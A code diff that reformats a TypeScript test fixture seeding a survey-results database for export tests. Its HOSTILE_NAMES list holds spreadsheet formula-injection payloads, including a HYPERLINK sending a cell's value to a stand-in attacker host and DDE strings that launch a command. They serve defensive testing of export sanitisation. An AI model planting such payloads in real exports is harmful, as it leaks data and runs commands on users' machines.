@@ -8,7 +8,13 @@ import type { DataSource } from 'typeorm';
  *
  * Institution names and one type come from a hostile import: text a spreadsheet would run.
  */
-export const HOSTILE_NAMES = ['=HYPERLINK("http://atacante.example/?x="&A1,"ver")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-1+1', '\tTabulador al inicio'] as const;
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://atacante.example/?x="&A1,"ver")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '-1+1',
+  '\tTabulador al inicio',
+] as const;
 export const HOSTILE_TYPE = '=tipo()';
 export const EXPORT_INDICATORS = ['I', 'T', 'P', 'TG', 'TC', 'PG', 'PC', 'I_G', 'DELTA_G'] as const;
 export const APERTURA_1 = { id: 'mga-2017/apertura-1', version: '1.0.0' };
@@ -52,7 +58,11 @@ const COLS = `round_id, scope, scope_key, aggregation, indicator, estimate, se, 
   validated_share, n, population_size, formula, method_id, method_version, watermark, computed_at`;
 
 /** Inserts institutions (the hostile ones plus `filler` plain ones, all in state 15), a round and its results. */
-export async function exportRound(ds: DataSource, guarantorId: string, opts: { status?: 'published' | 'closed'; filler?: number } = {}): Promise<ExportRoundFixture> {
+export async function exportRound(
+  ds: DataSource,
+  guarantorId: string,
+  opts: { status?: 'published' | 'closed'; filler?: number } = {},
+): Promise<ExportRoundFixture> {
   const status = opts.status ?? 'published';
   const filler = opts.filler ?? 20;
   const tag = Math.random().toString(36).slice(2, 8);
@@ -89,7 +99,10 @@ export async function exportRound(ds: DataSource, guarantorId: string, opts: { s
     [guarantorId, `Ronda de exportación ${tag}`, status, qi.id, qc.id],
   );
   const roundId: string = round.id;
-  await ds.query(`INSERT INTO round_institution (round_id, institution_id) SELECT $1, id FROM institution WHERE guarantor_id = $2`, [roundId, guarantorId]);
+  await ds.query(
+    `INSERT INTO round_institution (round_id, institution_id) SELECT $1, id FROM institution WHERE guarantor_id = $2`,
+    [roundId, guarantorId],
+  );
   const legacy = hostile[1].id;
   const common = (keyExpr: string) => `abs(hashtext(${keyExpr} || ind)::bigint)`;
   const provenance = `'${APERTURA_2.id}', '${APERTURA_2.version}', 77, now()`;
@@ -108,16 +121,31 @@ export async function exportRound(ds: DataSource, guarantorId: string, opts: { s
       `INSERT INTO metric_result (${COLS})
        SELECT $1::uuid, '${scope}', k, a, ind, v.*, 3, ${N}, 'I: unweighted mean', ${provenance}
        FROM (${keysSql}) i CROSS JOIN unnest($3::text[]) ind CROSS JOIN unnest($4::text[]) a
-       CROSS JOIN LATERAL (SELECT ${valueColumns(common("k || a"), 'ind', true)}) v`,
+       CROSS JOIN LATERAL (SELECT ${valueColumns(common('k || a'), 'ind', true)}) v`,
       [roundId, guarantorId, [...EXPORT_INDICATORS], aggregations],
     );
   };
   const one = ['unweighted'];
   const three = ['unweighted', 'mean_of_municipalities', 'population_weighted'];
   await area('municipality', `SELECT DISTINCT cvegeo::text AS k FROM institution WHERE guarantor_id = $2`, one, 40);
-  await area('state', `SELECT DISTINCT cve_ent::text AS k FROM institution WHERE guarantor_id = $2`, three, filler + HOSTILE_NAMES.length);
-  await area('national', `SELECT 'national'::text AS k WHERE $2::uuid IS NOT NULL`, three, filler + HOSTILE_NAMES.length);
+  await area(
+    'state',
+    `SELECT DISTINCT cve_ent::text AS k FROM institution WHERE guarantor_id = $2`,
+    three,
+    filler + HOSTILE_NAMES.length,
+  );
+  await area(
+    'national',
+    `SELECT 'national'::text AS k WHERE $2::uuid IS NOT NULL`,
+    three,
+    filler + HOSTILE_NAMES.length,
+  );
   await area('level', `SELECT DISTINCT level::text AS k FROM institution WHERE guarantor_id = $2`, one, 10);
   await area('type', `SELECT DISTINCT type::text AS k FROM institution WHERE guarantor_id = $2`, one, 10);
-  return { roundId, hostileIds: hostile.map((h) => h.id), legacyInstitutionId: legacy, institutions: filler + HOSTILE_NAMES.length };
+  return {
+    roundId,
+    hostileIds: hostile.map((h) => h.id),
+    legacyInstitutionId: legacy,
+    institutions: filler + HOSTILE_NAMES.length,
+  };
 }
